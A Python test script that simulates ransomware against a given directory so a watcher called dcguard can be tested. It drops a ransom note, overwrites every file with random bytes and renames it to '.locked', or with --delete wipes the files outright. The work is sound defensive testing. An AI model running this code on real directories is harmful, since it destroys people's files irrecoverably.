"""Encrypt a directory tree the way ransomware does, for the ransomware watcher's tests and bench.

For each directory (top first): drop a ransom note, then for each file read
it, overwrite it in place with random-looking bytes of the same length, and
rename it with a new extension. Prints one line per file encrypted,
"<unix time> <path>", so a caller can count the files lost before detection.
With --delete it wipes files instead (mass deletion). Runs as its own
process: real syscalls, as a real attack would make them.

    python3 tests/ransom_sim.py DIR [--extension .locked] [--note NAME] [--delay S]
                                    [--limit N] [--delete]
"""

from __future__ import annotations

import argparse
import os
import sys
import time
from pathlib import Path


def _files(root: Path) -> list[tuple[Path, list[Path]]]:
    tree: list[tuple[Path, list[Path]]] = []
    for directory, dirnames, filenames in os.walk(root):
        dirnames.sort()
        tree.append((Path(directory), [Path(directory, name) for name in sorted(filenames)]))
    return tree


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("root", type=Path)
    parser.add_argument("--extension", default=".locked")
    parser.add_argument("--note", default="HOW_TO_RECOVER_FILES.txt")
    parser.add_argument("--delay", type=float, default=0.0, help="seconds between files")
    parser.add_argument("--limit", type=int, default=0, help="stop after this many files")
    parser.add_argument("--delete", action="store_true", help="delete files instead")
    args = parser.parse_args(argv)
    done = 0
    for directory, files in _files(args.root):
        if not args.delete and args.note:
            (directory / args.note).write_text(
                "Your files are encrypted. This is a test of dcguard's watcher.\n"
            )
        for path in files:
            if args.limit and done >= args.limit:
                return 0
            if path.name == args.note:
                continue
            if args.delete:
                path.unlink()
            else:
                size = len(path.read_bytes())
                with path.open("r+b") as handle:
                    handle.write(os.urandom(size))
                path.rename(path.with_name(path.name + args.extension))
            done += 1
            print(f"{time.time():.6f} {path}", flush=True)
            if args.delay:
                time.sleep(args.delay)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
